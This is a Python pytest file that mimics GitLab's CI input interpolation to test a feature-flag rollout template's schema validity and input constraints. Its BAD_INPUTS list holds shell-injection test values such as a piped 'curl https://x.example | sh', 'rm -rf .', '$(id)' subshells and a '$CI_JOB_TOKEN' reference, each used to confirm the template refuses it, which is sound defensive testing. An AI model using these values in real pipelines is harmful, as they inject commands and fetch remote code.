"""The project's pipeline and the includable rollout template pass GitLab's CI schema and do their jobs.

The rollout template is a `spec: inputs` template. GitLab checks the inputs of an `include:` and interpolates
them before the jobs exist, so these tests do the same with a small interpolator written from GitLab's
documentation (doc/ci/inputs, doc/ci/yaml `spec:inputs`), then check the jobs that come out: they pass the CI
schema, carry the values, and a bad input is refused with GitLab's message.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

ROOT = Path(__file__).resolve().parents[2]
PROJECT_CI = ROOT / ".gitlab-ci.yml"
ROLLOUT_TEMPLATE = ROOT / "templates" / "ci" / "rollout.gitlab-ci.yml"
README = ROOT / "README.md"

# A typical include: only the required input, everything else from the defaults.
TYPICAL_INPUTS: dict[str, Any] = {"package": "gl-rollout==0.1.0"}
# Stages every pipeline has when it does not declare `stages:`.
DEFAULT_STAGES = [".pre", "build", "test", "deploy", ".post"]
# An input left out of the include altogether (None stands for an explicit `null`).
ABSENT = object()
# Keywords that act on the whole pipeline: a component must not set them (doc/ci/components).
GLOBAL_KEYWORDS = {"default", "include", "stages", "variables", "workflow"}
# Top-level keys that are deprecated globals rather than jobs.
DEPRECATED_GLOBALS = {"image", "services", "cache", "before_script", "after_script"}


# ----------------------------------------------------------------------------------------------------------
# GitLab's input interpolation, as documented
# ----------------------------------------------------------------------------------------------------------


class InputError(Exception):
    """GitLab refuses the include; the message lists its errors as GitLab words them."""


INPUT_TYPES = ("array", "boolean", "number", "string")
# `$[[ inputs.name ]]`, optionally with `| function` parts; the content is at least two characters.
BLOCK = re.compile(r"\$\[\[\s*(\S.*?\S)\s*\]\]")
MAX_FUNCTIONS = 3


def split_template(text: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """The header document (`spec:`) and the configuration document after `---`."""
    documents = list(YAML(typ="safe").load_all(text))
    assert len(documents) == 2, "a template with inputs is a header document, `---`, and the jobs"
    header, config = documents
    assert isinstance(header, dict)
    assert set(header) == {"spec"}, "the header holds `spec` only"
    assert isinstance(config, dict)
    return header, config


def re2_pattern(pattern: str) -> re.Pattern[str]:
    """Compile an RE2 pattern with Python's engine, refusing what RE2 lacks and keeping RE2's `$`.

    RE2 has no lookaround, backreferences, atomic groups or possessive quantifiers; its `\\d`, `\\w`, `\\s`
    are ASCII; and without the m flag its `$` matches only at the very end (Python's also before a final
    newline).
    """
    for construct in ("(?=", "(?!", "(?<=", "(?<!", "(?>", "*+", "++", "?+", "(?(", "(?P=", "\\Z"):
        assert construct not in pattern, f"RE2 has no {construct!r}: {pattern}"
    assert not re.search(r"\\[1-9]", pattern), f"RE2 has no backreferences: {pattern}"
    translated, escaped, in_class = [], False, False
    for char in pattern:
        if escaped:
            translated.append(char)
            escaped = False
        elif char == "\\":
            translated.append(char)
            escaped = True
        elif in_class:
            translated.append(char)
            in_class = char != "]"
        elif char == "[":
            translated.append(char)
            in_class = True
        else:
            translated.append(r"\Z" if char == "$" else char)
    return re.compile("".join(translated), re.ASCII)


def type_error(value: Any, type_name: str) -> bool:
    """True when `value` is not of the input type (a YAML boolean is not a number, as in Ruby)."""
    if type_name == "string":
        return not isinstance(value, str)
    if type_name == "number":
        return isinstance(value, bool) or not isinstance(value, int | float)
    if type_name == "boolean":
        return not isinstance(value, bool)
    return not isinstance(value, list)


def check_value(name: str, spec: dict[str, Any], value: Any, *, default: bool) -> list[str]:
    """Type, then options, then regex, each with GitLab's wording."""
    type_name = spec.get("type", "string")
    which = "default" if default else "provided"
    errors: list[str] = []
    if type_error(value, type_name):
        article = "an" if type_name == "array" else "a"
        errors.append(f"`{name}` input: {which} value is not {article} {type_name}")
    options = spec.get("options")
    if options is not None:
        if type_name not in ("string", "number"):
            errors.append(f"`{name}` input: Options can only be used with string and number inputs")
        elif value not in options:
            allowed = "the allowed" if type_name == "number" else "allowed"  # GitLab's two wordings
            errors.append(
                f"`{name}` input: `{value}` cannot be used because it is not in the list of {allowed} options"
            )
    if "regex" in spec:
        if type_name != "string":
            errors.append(f"`{name}` input: RegEx validation can only be used with string inputs")
        elif isinstance(value, str) and not re2_pattern(spec["regex"]).search(value):
            # GitLab matches anywhere in the value: anchors are the pattern's business.
            errors.append(f"`{name}` input: {which} value does not match required RegEx pattern")
    return errors


def resolve_inputs(specs: dict[str, Any], given: dict[str, Any]) -> dict[str, Any]:
    """The value of every input: given, else its default; InputError with every problem otherwise."""
    errors: list[str] = []
    unknown = [name for name in given if name not in specs]
    if unknown:
        errors.append(f"unknown input arguments: {', '.join(unknown)}")
    values: dict[str, Any] = {}
    for name, raw_spec in specs.items():
        spec = raw_spec or {}  # `name:` alone is a required string input
        if spec.get("type", "string") not in INPUT_TYPES:
            errors.append(f"unknown input specification for `{name}` (valid types: {', '.join(INPUT_TYPES)})")
            continue
        value = given.get(name)  # an explicit null counts as not given
        required = "default" not in spec
        if required and value is None:
            errors.append(f"`{name}` input: required value has not been provided")
            continue
        if not required:
            errors += check_value(name, spec, spec["default"], default=True)
        if value is not None:
            errors += check_value(name, spec, value, default=False)
        values[name] = spec.get("default") if value is None else value
    if errors:
        raise InputError("; ".join(errors))
    return values


def ruby_to_s(value: Any) -> str:
    """How a value reads when it is part of a larger string (Ruby's to_s; arrays as Ruby inspects them)."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if value is None:
        return ""
    if isinstance(value, list):
        return "[" + ", ".join(ruby_inspect(item) for item in value) + "]"
    if isinstance(value, dict):
        raise NotImplementedError("a map inside a string is not modelled here")
    return str(value)


def ruby_inspect(value: Any) -> str:
    if isinstance(value, str):
        return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'
    if value is None:
        return "nil"
    return ruby_to_s(value)


def evaluate_block(content: str, context: dict[str, Any]) -> Any:
    access, *functions = (part.strip() for part in content.split("|"))
    if len(functions) > MAX_FUNCTIONS:
        raise InputError("too many functions in interpolation block")
    if functions:
        raise NotImplementedError(f"interpolation functions are not modelled here: {functions}")
    path = access.split(".", 4)
    if len(path) <= 1:
        raise InputError("invalid interpolation access pattern")
    value: Any = context
    for key in path:
        if not isinstance(value, dict) or key not in value:
            raise InputError(f"unknown interpolation key: `{key}`")
        value = value[key]
    return value


def interpolate_node(node: Any, context: dict[str, Any]) -> Any:
    """Replace every block in keys and values; a block that is the whole value keeps its input's type."""
    if isinstance(node, dict):
        return {
            interpolate_node(key, context): interpolate_node(value, context) for key, value in node.items()
        }
    if isinstance(node, list):
        items: list[Any] = []
        for item in node:
            new = interpolate_node(item, context)
            # An array input that replaces a whole item of a list is spliced into that list.
            if isinstance(item, str) and isinstance(new, list):
                items.extend(new)
            else:
                items.append(new)
        return items
    if not isinstance(node, str) or "$[[" not in node:
        return node
    blocks = [(match.group(0), match.group(1)) for match in BLOCK.finditer(node)]
    if not blocks:
        return node
    if len(blocks) == 1 and blocks[0][0] == node:
        return evaluate_block(blocks[0][1], context)
    for text, content in blocks:
        node = node.replace(text, ruby_to_s(evaluate_block(content, context)))
    return node


def include_template(text: str, inputs: dict[str, Any]) -> dict[str, Any]:
    """What GitLab merges into the pipeline for `include: ... inputs: INPUTS` of the template TEXT."""
    header, config = split_template(text)
    values = resolve_inputs(header["spec"].get("inputs") or {}, inputs)
    result = interpolate_node(config, {"inputs": values})
    assert isinstance(result, dict)
    return result


def include_rollout(inputs: dict[str, Any]) -> dict[str, Any]:
    return include_template(ROLLOUT_TEMPLATE.read_text(encoding="utf-8"), inputs)


# ----------------------------------------------------------------------------------------------------------
# Helpers
# ----------------------------------------------------------------------------------------------------------


def validate(*paths: Path) -> subprocess.CompletedProcess[str]:
    """Run check-jsonschema with its vendored copy of GitLab's CI schema (no network)."""
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.gitlab-ci", *map(str, paths)],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def write_yaml(path: Path, data: Any) -> Path:
    stream = io.StringIO()
    YAML(typ="safe").dump(data, stream)
    path.write_text(stream.getvalue(), encoding="utf-8")
    return path


def documents_as_files(text: str, directory: Path, stem: str) -> list[Path]:
    """check-jsonschema reads one YAML document per file: each document of TEXT in a file of its own."""
    return [
        write_yaml(directory / f"{stem}-{number}.yml", document)
        for number, document in enumerate(YAML(typ="safe").load_all(text))
    ]


def load(path: Path) -> dict[str, Any]:
    data = YAML(typ="safe").load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def script_text(job: dict[str, Any], key: str = "script") -> str:
    return "\n".join(str(line) for line in job.get(key, []))


def jobs(config: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The jobs of a configuration: every mapping that is not a global keyword or a hidden job."""
    return {
        name: body
        for name, body in config.items()
        if isinstance(body, dict)
        and not name.startswith(".")
        and name not in GLOBAL_KEYWORDS | DEPRECATED_GLOBALS
    }


def readme_ci_section() -> str:
    text = README.read_text(encoding="utf-8")
    start = text.index("## Running from CI")
    end = text.index("\n## ", start + 1)
    return text[start:end]


def readme_ci_yaml_blocks() -> list[dict[str, Any]]:
    blocks = re.findall(r"```yaml\n(.*?)```", readme_ci_section(), flags=re.DOTALL)
    return [YAML(typ="safe").load(block) for block in blocks]


# ----------------------------------------------------------------------------------------------------------
# The files pass GitLab's schema
# ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [PROJECT_CI, ROLLOUT_TEMPLATE], ids=["project", "rollout-template"])
def test_ci_file_passes_gitlab_schema(path: Path, tmp_path: Path) -> None:
    """The template's two YAML documents, each on its own: the `spec:` header, and the jobs as written."""
    if path == ROLLOUT_TEMPLATE:
        files = documents_as_files(path.read_text(encoding="utf-8"), tmp_path, path.stem)
        assert len(files) == 2
    else:
        files = [path]
    result = validate(*files)
    assert result.returncode == 0, result.stdout + result.stderr


def test_schema_check_rejects_a_broken_pipeline(tmp_path: Path) -> None:
    """The validation above would notice a mistake: a job whose `when` is not a GitLab keyword."""
    text = ROLLOUT_TEMPLATE.read_text(encoding="utf-8").replace("when: manual", "when: sometimes", 1)
    assert "when: sometimes" in text
    result = validate(*documents_as_files(text, tmp_path, "broken"))
    assert result.returncode != 0


def test_schema_check_rejects_a_broken_input_spec(tmp_path: Path) -> None:
    """The header is checked too: an input type GitLab does not have fails the schema."""
    text = ROLLOUT_TEMPLATE.read_text(encoding="utf-8").replace("type: number", "type: integer", 1)
    assert "type: integer" in text
    result = validate(*documents_as_files(text, tmp_path, "broken"))
    assert result.returncode != 0


def test_project_pipeline_lints_typechecks_tests_three_pythons_and_builds_a_wheel() -> None:
    ci = load(PROJECT_CI)
    all_scripts = "\n".join(script_text(job) for job in ci.values() if isinstance(job, dict))
    assert "ruff check" in all_scripts
    assert "ruff format --check" in all_scripts
    assert "mypy" in all_scripts
    assert "python -m build" in all_scripts or "pip wheel" in all_scripts

    test_jobs = [job for job in ci.values() if isinstance(job, dict) and ".ci/run" in script_text(job)]
    assert len(test_jobs) == 1
    matrix = test_jobs[0]["parallel"]["matrix"]
    versions = {v for entry in matrix for v in entry["PYTHON_VERSION"]}
    assert versions == {"3.11", "3.12", "3.13"}
    assert "$PYTHON_VERSION" in test_jobs[0]["image"]


# ----------------------------------------------------------------------------------------------------------
# The template's shape: typed, constrained inputs; no global keywords; names and stages from inputs
# ----------------------------------------------------------------------------------------------------------


def template_parts() -> tuple[dict[str, Any], dict[str, Any]]:
    header, config = split_template(ROLLOUT_TEMPLATE.read_text(encoding="utf-8"))
    return header["spec"]["inputs"], config


def test_template_inputs_are_described_typed_and_constrained() -> None:
    specs, _ = template_parts()
    for name, spec in specs.items():
        assert spec.get("description"), f"input {name} has no description"
        assert spec.get("type", "string") in INPUT_TYPES
        if spec.get("type", "string") == "string" and "default" in spec:
            assert isinstance(spec["default"], str), f"{name}: the default of a string input is a string"
        if "regex" in spec:
            re2_pattern(spec["regex"])  # compiles, and uses nothing RE2 lacks

    # The package source is required and must be pinned; the scope is one of two words; days are a number.
    assert "default" not in specs["package"]
    assert specs["package"]["regex"]
    assert specs["scope"]["options"] == ["project", "group"]
    assert specs["stale-days"]["type"] == "number"
    assert isinstance(specs["stale-days"]["default"], int)


def test_every_input_that_reaches_a_shell_line_is_constrained_and_every_input_is_used() -> None:
    """A value in a script line could otherwise break out of its quotes: each one is limited by GitLab."""
    specs, config = template_parts()
    raw = ROLLOUT_TEMPLATE.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    used = set(re.findall(r"\$\[\[\s*inputs\.([\w-]+)", raw))
    assert used == set(specs), (
        f"declared but unused: {set(specs) - used}; used but undeclared: {used - set(specs)}"
    )

    shell_lines = [
        str(line)
        for body in config.values()
        if isinstance(body, dict)
        for key in ("before_script", "script")
        for line in body.get(key, [])
    ]
    in_shell = {name for line in shell_lines for name in re.findall(r"inputs\.([\w-]+)", line)}
    assert {"package", "scope", "scope-path", "label", "sync-args", "state-file", "gate-step"} <= in_shell
    for name in in_shell:
        spec = specs[name]
        assert "regex" in spec or "options" in spec or spec.get("type") in ("number", "boolean"), name


def test_template_sets_no_global_keywords_and_takes_job_names_and_stages_from_inputs() -> None:
    _, config = template_parts()
    assert not set(config) & (GLOBAL_KEYWORDS | DEPRECATED_GLOBALS)
    for name, body in config.items():
        assert "$[[ inputs." in name, f"job name {name!r} is fixed: it would clash when included twice"
        if not name.startswith("."):
            assert re.fullmatch(r"\$\[\[ inputs\.[\w-]+ \]\]", str(body["stage"])), f"{name}: stage is fixed"
            assert body["extends"] == ".gl-$[[ inputs.job-prefix ]]"


# ----------------------------------------------------------------------------------------------------------
# Included with inputs: the jobs GitLab would create
# ----------------------------------------------------------------------------------------------------------


def test_rollout_template_has_scheduled_sync_manual_dry_run_pages_and_gate() -> None:
    """Included with only the package, the jobs are the ones the template always had, doing what they did."""
    ci = include_rollout(TYPICAL_INPUTS)

    sync = ci["rollout-sync"]
    assert sync["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule"'}]
    assert "gl-rollout sync" in script_text(sync)
    assert "--dry-run" not in script_text(sync)
    assert "--state" in script_text(sync)

    dry = ci["rollout-sync-dry-run"]
    assert "--dry-run" in script_text(dry)
    assert any(rule.get("when") == "manual" for rule in dry["rules"])

    pages = ci["pages"]
    assert pages["artifacts"]["paths"] == ["public"]
    assert "gl-rollout report" in script_text(pages)
    assert "public/index.html" in script_text(pages)

    gate = ci["rollout-gate"]
    assert 'gl-rollout status "$ROLLOUT_ISSUE" --require enable-production' in script_text(gate)

    # Every job installs the tool and keeps colour codes out of job logs.
    base = ci[".gl-rollout"]
    assert base["variables"]["NO_COLOR"] == "1"
    for name in ("rollout-sync", "rollout-sync-dry-run", "pages", "rollout-gate"):
        assert ci[name]["extends"] == ".gl-rollout"


def test_merge_request_pipelines_that_touch_a_definition_create_the_rollout_issues() -> None:
    """Issue 12: the job runs `create --from-mr` on the pipeline's MR, only in merge request pipelines whose
    changes touch a flag definition (CE or EE), and never on a schedule."""
    ci = include_rollout(TYPICAL_INPUTS)
    job = ci["rollout-from-mr"]
    assert job["extends"] == ".gl-rollout"
    assert 'gl-rollout create --from-mr "$CI_MERGE_REQUEST_IID"' in script_text(job)
    assert "--dry-run" not in script_text(job)
    assert job["rules"] == [
        {
            "if": '$CI_PIPELINE_SOURCE == "merge_request_event"',
            "changes": ["config/feature_flags/**/*.yml", "ee/config/feature_flags/**/*.yml"],
        }
    ]
    assert job["artifacts"]["paths"] == ["rollout-from-mr.json"]
    assert job["resource_group"] == "gl-rollout-from-mr"  # two pipelines never race to create one issue


def test_the_ramp_job_advances_every_rollout_of_the_scope_one_job_at_a_time() -> None:
    ci = include_rollout(TYPICAL_INPUTS)
    ramp = ci["rollout-ramp"]
    assert ramp["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "schedule" && $ROLLOUT_RAMP'}]
    assert ramp["resource_group"] == "gl-rollout-ramp"
    assert ramp["extends"] == ".gl-rollout"
    assert 'gl-rollout advance --project "$CI_PROJECT_PATH" --label "feature flag"' in script_text(ramp)
    assert "--dry-run" not in script_text(ramp)
    grouped = include_rollout(
        {**TYPICAL_INPUTS, "scope": "group", "scope-path": "acme", "ramp-args": "--incident-project acme/ops"}
    )
    text = script_text(grouped["rollout-ramp"])
    assert 'gl-rollout advance --group "acme"' in text
    assert text.rstrip().endswith("--incident-project acme/ops")


def test_defaults_keep_what_the_template_did_before_it_had_inputs() -> None:
    ci = include_rollout(TYPICAL_INPUTS)
    # Issue 12 added rollout-from-mr (merge request pipelines only), in the sync's stage; issue 15 the ramp
    # job, which runs only in schedules that set ROLLOUT_RAMP.
    assert set(jobs(ci)) == {
        "rollout-sync",
        "rollout-sync-dry-run",
        "pages",
        "rollout-gate",
        "rollout-from-mr",
        "rollout-ramp",
    }
    assert {name: body["stage"] for name, body in jobs(ci).items()} == {
        "rollout-sync": "test",
        "rollout-sync-dry-run": "test",
        "pages": "deploy",
        "rollout-gate": ".pre",
        "rollout-from-mr": "test",
        "rollout-ramp": "test",
    }
    base = ci[".gl-rollout"]
    assert base["image"] == "python:3.12-slim"
    assert 'python -m pip install --quiet "gl-rollout==0.1.0"' in script_text(base, "before_script")
    scope = '--project "$CI_PROJECT_PATH" --label "feature flag"'
    for name in ("rollout-sync", "rollout-sync-dry-run", "pages"):
        assert scope in script_text(ci[name]), name
    assert '--stale-days "14"' in script_text(ci["pages"])
    sync = ci["rollout-sync"]
    assert sync["resource_group"] == "gl-rollout-sync"
    assert sync["cache"] == {"key": "gl-rollout-sync-state", "paths": [".gl-rollout/sync-state.json"]}
    assert '--state ".gl-rollout/sync-state.json"' in script_text(sync)
    # No gate issue: the gate job only appears when a ROLLOUT_ISSUE variable names one.
    gate = ci["rollout-gate"]
    assert gate["variables"] == {"ROLLOUT_ISSUE": ""}
    assert gate["rules"][-1] == {"if": "$ROLLOUT_ISSUE"}


def test_include_with_inputs_gives_jobs_that_pass_the_schema_and_carry_the_values(tmp_path: Path) -> None:
    inputs = {
        "package": "git+https://gitlab.example.com/tools/gl-rollout.git@v0.1.0",
        "scope": "group",
        "scope-path": "acme/platform",
        "label": "rollout",
        "stage": "verify",
        "pages-stage": "publish",
        "gate-stage": "verify",
        "job-prefix": "flags",
        "pages-job": "flags-report",
        "image": "registry.example.com/python:3.13",
        "sync-args": "--strict --features-url $PRODUCTION_URL",
        "state-file": "ci/state/flags.json",
        "stale-days": 30,
        "gate-issue": "acme/platform/rollouts#42",
        "gate-step": "enable-staging",
    }
    ci = include_rollout(inputs)
    assert "$[[" not in repr(ci), "every block was interpolated"
    # Issue 12 added the merge request job (flags-from-mr), issue 15 the ramp job (flags-ramp).
    assert set(jobs(ci)) == {
        "flags-sync",
        "flags-sync-dry-run",
        "flags-report",
        "flags-gate",
        "flags-from-mr",
        "flags-ramp",
    }
    assert set(ci) - set(jobs(ci)) == {".gl-flags"}
    assert ci["flags-from-mr"]["stage"] == "verify"

    assert ci[".gl-flags"]["image"] == "registry.example.com/python:3.13"
    install = script_text(ci[".gl-flags"], "before_script")
    assert 'pip install --quiet "git+https://gitlab.example.com/tools/gl-rollout.git@v0.1.0"' in install
    for name in ("flags-sync", "flags-sync-dry-run", "flags-report", "flags-gate"):
        assert ci[name]["extends"] == ".gl-flags"
    assert (
        ci["flags-sync"]["stage"]
        == ci["flags-sync-dry-run"]["stage"]
        == ci["flags-gate"]["stage"]
        == "verify"
    )
    assert ci["flags-report"]["stage"] == "publish"

    sync = script_text(ci["flags-sync"])
    assert 'gl-rollout sync --group "acme/platform" --label "rollout"' in sync
    assert sync.endswith("--strict --features-url $PRODUCTION_URL")
    assert '--state "ci/state/flags.json"' in sync
    assert 'mkdir -p "$(dirname "ci/state/flags.json")"' in sync
    assert ci["flags-sync"]["cache"] == {"key": "gl-flags-sync-state", "paths": ["ci/state/flags.json"]}
    assert ci["flags-sync"]["resource_group"] == "gl-flags-sync"
    dry = script_text(ci["flags-sync-dry-run"])
    assert "--dry-run" in dry
    assert dry.endswith("--strict --features-url $PRODUCTION_URL")
    report = script_text(ci["flags-report"])
    assert '--group "acme/platform"' in report
    assert '--stale-days "30"' in report
    gate = ci["flags-gate"]
    assert gate["variables"] == {"ROLLOUT_ISSUE": "acme/platform/rollouts#42"}
    assert 'gl-rollout status "$ROLLOUT_ISSUE" --require enable-staging' in script_text(gate)

    pipeline = {"stages": ["verify", "publish"], **ci}
    result = validate(write_yaml(tmp_path / "included.yml", pipeline))
    assert result.returncode == 0, result.stdout + result.stderr


def test_included_twice_with_two_prefixes_the_jobs_do_not_collide(tmp_path: Path) -> None:
    """A project and a group side by side: no job, hidden job, cache key or resource group is shared."""
    project = include_rollout(TYPICAL_INPUTS)
    group = include_rollout(
        {
            **TYPICAL_INPUTS,
            "scope": "group",
            "scope-path": "acme",
            "job-prefix": "acme",
            "pages-job": "acme-report",
        }
    )
    assert not set(project) & set(group)
    assert project["rollout-sync"]["cache"]["key"] != group["acme-sync"]["cache"]["key"]
    assert project["rollout-sync"]["resource_group"] != group["acme-sync"]["resource_group"]
    result = validate(write_yaml(tmp_path / "both.yml", {**project, **group}))
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(
    "package",
    [
        "gl-rollout==0.1.0",
        "gl_rollout==1.2.3rc1",
        "git+https://gitlab.example.com/tools/gl-rollout.git@v0.1.0",
        "git+https://gitlab.example.com:8443/tools/gl-rollout@0.1.0",
        "git+https://gitlab.example.com/tools/gl-rollout.git@" + "3f" * 20,
        "https://gitlab.example.com/api/v4/projects/7/packages/pypi/files/"
        + "ab" * 32
        + "/gl_rollout-0.1.0-py3-none-any.whl#sha256="
        + "cd" * 32,
    ],
)
def test_pinned_package_sources_are_accepted(package: str) -> None:
    ci = include_rollout({"package": package})
    assert f'pip install --quiet "{package}"' in script_text(ci[".gl-rollout"], "before_script")


def no_match(name: str) -> str:
    return f"`{name}` input: provided value does not match required RegEx pattern"


# (case, inputs over the typical include, GitLab's error)
BAD_INPUTS: list[tuple[str, dict[str, Any], str]] = [
    ("package-missing", {"package": ABSENT}, "`package` input: required value has not been provided"),
    ("package-null", {"package": None}, "`package` input: required value has not been provided"),
    ("unpinned-name", {"package": "gl-rollout"}, no_match("package")),
    ("version-range", {"package": "gl-rollout>=0.1"}, no_match("package")),
    ("version-wildcard", {"package": "gl-rollout==0.*"}, no_match("package")),
    ("git-branch", {"package": "git+https://gitlab.example.com/t/gl-rollout.git@main"}, no_match("package")),
    ("git-no-ref", {"package": "git+https://gitlab.example.com/t/gl-rollout.git"}, no_match("package")),
    (
        "git-short-sha",
        {"package": "git+https://gitlab.example.com/t/gl-rollout.git@3f3f3f3"},
        no_match("package"),
    ),
    (
        "credentials-in-url",
        {"package": "git+https://oauth2:glpat-x@gitlab.example.com/t/gl-rollout.git@v0.1.0"},
        no_match("package"),
    ),
    (
        "plain-http-wheel",
        {"package": "http://example.com/gl_rollout-0.1.0-py3-none-any.whl"},
        no_match("package"),
    ),
    ("other-wheel", {"package": "https://example.com/evil-0.1.0-py3-none-any.whl"}, no_match("package")),
    ("package-shell", {"package": 'gl-rollout==0.1.0"; curl https://x.example | sh; "'}, no_match("package")),
    ("trailing-newline", {"package": "gl-rollout==0.1.0\n"}, no_match("package")),
    (
        "scope-not-an-option",
        {"scope": "instance"},
        "`scope` input: `instance` cannot be used because it is not in the list of allowed options",
    ),
    ("days-string", {"stale-days": "14"}, "`stale-days` input: provided value is not a number"),
    ("days-bool", {"stale-days": True}, "`stale-days` input: provided value is not a number"),
    ("label-number", {"label": 42}, "`label` input: provided value is not a string"),
    ("label-quote", {"label": 'x" && curl evil "'}, no_match("label")),
    ("path-shell", {"scope-path": "acme; reboot"}, no_match("scope-path")),
    ("path-token", {"scope-path": "$CI_JOB_TOKEN"}, no_match("scope-path")),
    ("prefix-space", {"job-prefix": "my rollout"}, no_match("job-prefix")),
    ("pages-job-empty", {"pages-job": ""}, no_match("pages-job")),
    ("stage-empty", {"stage": ""}, no_match("stage")),
    ("image-shell", {"image": "python:3 && x"}, no_match("image")),
    ("args-semicolon", {"sync-args": "--strict; rm -rf ."}, no_match("sync-args")),
    ("args-subshell", {"sync-args": "$(id)"}, no_match("sync-args")),
    ("args-backtick", {"sync-args": "`id`"}, no_match("sync-args")),
    ("state-parent", {"state-file": "../x.json"}, no_match("state-file")),
    ("state-absolute", {"state-file": "/srv/x.json"}, no_match("state-file")),
    ("issue-shell", {"gate-issue": "42; reboot"}, no_match("gate-issue")),
    ("step-not-an-id", {"gate-step": "Enable Prod"}, no_match("gate-step")),
    ("unknown-input", {"labels": "x"}, "unknown input arguments: labels"),
]


@pytest.mark.parametrize(
    ("inputs", "error"), [case[1:] for case in BAD_INPUTS], ids=[c[0] for c in BAD_INPUTS]
)
def test_a_bad_input_is_refused_with_gitlabs_message(inputs: dict[str, Any], error: str) -> None:
    given = {name: value for name, value in {**TYPICAL_INPUTS, **inputs}.items() if value is not ABSENT}
    with pytest.raises(InputError, match=re.escape(error)):
        include_rollout(given)


def test_every_default_passes_its_own_constraints() -> None:
    """GitLab checks defaults too: a default outside its options or regex would break every include."""
    specs, _ = template_parts()
    for name, spec in specs.items():
        if "default" in spec:
            assert check_value(name, spec, spec["default"], default=True) == [], name


# ----------------------------------------------------------------------------------------------------------
# README's CI section shows includes that work
# ----------------------------------------------------------------------------------------------------------


def test_readme_shows_project_remote_and_component_includes_with_inputs(tmp_path: Path) -> None:
    blocks = readme_ci_yaml_blocks()
    entries = [entry for block in blocks for entry in block.get("include", [])]
    forms = {form for entry in entries for form in ("project", "remote", "component") if form in entry}
    assert forms == {"project", "remote", "component"}
    section = readme_ci_section()
    assert "templates/gl-rollout.yml" in section, "README says where a component project keeps the file"

    for number, block in enumerate(blocks):
        included: dict[str, Any] = {}
        for entry in block.get("include", []):
            if "project" in entry:
                assert entry["file"].lstrip("/") == "templates/ci/rollout.gitlab-ci.yml"
                assert entry.get("ref"), "a project include pins its ref"
            elif "remote" in entry:
                assert entry["remote"].endswith("/templates/ci/rollout.gitlab-ci.yml")
            else:
                assert re.fullmatch(r"\$CI_SERVER_FQDN/[\w./-]+/gl-rollout@\d+\.\d+\.\d+", entry["component"])
            included |= include_rollout(entry["inputs"])
        # The jobs' stages exist in the pipeline the block makes.
        stages = [".pre", *block.get("stages", DEFAULT_STAGES[1:-1]), ".post"]
        for name, body in jobs(included).items():
            assert body["stage"] in stages, f"README block {number}: {name} runs in {body['stage']!r}"
        pipeline = write_yaml(tmp_path / f"readme-{number}.yml", block)
        rest = {key: value for key, value in block.items() if key != "include"}
        merged = write_yaml(tmp_path / f"readme-{number}-merged.yml", {**rest, **included})
        result = validate(pipeline, merged)
        assert result.returncode == 0, result.stdout + result.stderr


# ----------------------------------------------------------------------------------------------------------
# The interpolator itself follows GitLab's documented rules
# ----------------------------------------------------------------------------------------------------------

TYPES_TEMPLATE = """\
spec:
  inputs:
    name:
      default: build
    count:
      type: number
      default: 3
    flag:
      type: boolean
      default: true
    items:
      type: array
      default: [lint, unit]
---
"$[[ inputs.name ]]-job":
  parallel: $[[ inputs.count ]]
  allow_failure: $[[ inputs.flag ]]
  needs: $[[ inputs.items ]]
  script:
    - echo $[[ inputs.name ]] on port 80$[[ inputs.count ]] is $[[ inputs.flag ]] for $[[ inputs.items ]]
    - $[[ inputs.items ]]
    - done
"""


def test_interpolation_keeps_types_for_whole_values_and_makes_strings_inside_text() -> None:
    result = include_template(TYPES_TEMPLATE, {})
    job = result["build-job"]
    assert job["parallel"] == 3
    assert job["allow_failure"] is True
    assert job["needs"] == ["lint", "unit"]
    assert job["script"] == ['echo build on port 803 is true for ["lint", "unit"]', "lint", "unit", "done"]

    result = include_template(TYPES_TEMPLATE, {"name": "check", "count": 2.5, "flag": False, "items": []})
    assert result["check-job"]["parallel"] == 2.5
    assert result["check-job"]["allow_failure"] is False
    assert result["check-job"]["script"][0] == "echo check on port 802.5 is false for []"


def one_input(spec: str = "", script: str = "a") -> str:
    """A template with one input `a` (SPEC: its indented keys) and one job whose script is SCRIPT."""
    indented = "".join(f"      {line}\n" for line in spec.splitlines())
    return f"spec:\n  inputs:\n    a:\n{indented}---\nj:\n  script: {script}\n"


@pytest.mark.parametrize(
    ("template", "inputs", "error"),
    [
        (one_input(script="$[[ inputs.b ]]"), {"a": "x"}, "unknown interpolation key: `b`"),
        (one_input(script="$[[ ab ]]"), {"a": "x"}, "invalid interpolation access pattern"),
        (one_input(), {}, "`a` input: required value has not been provided"),
        (
            one_input("options: [x, y]\ndefault: z"),
            {},
            "`a` input: `z` cannot be used because it is not in the list of allowed options",
        ),
        (
            one_input("type: number\noptions: [1, 2]\ndefault: 3"),
            {},
            "`a` input: `3` cannot be used because it is not in the list of the allowed options",
        ),
        (
            one_input("regex: ^v\\d+$\ndefault: main"),
            {},
            "`a` input: default value does not match required RegEx",
        ),
        (
            one_input("regex: ^v\\d+$"),
            {"a": "v1x"},
            "`a` input: provided value does not match required RegEx",
        ),
        (
            one_input("type: number\nregex: ^1$\ndefault: 1"),
            {},
            "`a` input: RegEx validation can only be used with string inputs",
        ),
        (
            one_input("type: boolean\noptions: [true]\ndefault: true"),
            {},
            "`a` input: Options can only be used with string and number inputs",
        ),
        (one_input("type: array"), {"a": "x"}, "`a` input: provided value is not an array"),
        (one_input("type: number\ndefault: '1'"), {}, "`a` input: default value is not a number"),
        (
            one_input("type: integer"),
            {"a": 1},
            "unknown input specification for `a` (valid types: array, boolean, number, string)",
        ),
    ],
)
def test_interpolation_errors_read_as_gitlabs(template: str, inputs: dict[str, Any], error: str) -> None:
    with pytest.raises(InputError, match=re.escape(error)):
        include_template(template, inputs)


def test_regex_matches_anywhere_unless_anchored_and_dollar_is_the_very_end() -> None:
    """GitLab's documented example `^v\\d\\.\\d+(\\.\\d+)?$`: v1.0 and v1.2.3 pass, v1.A.B does not."""
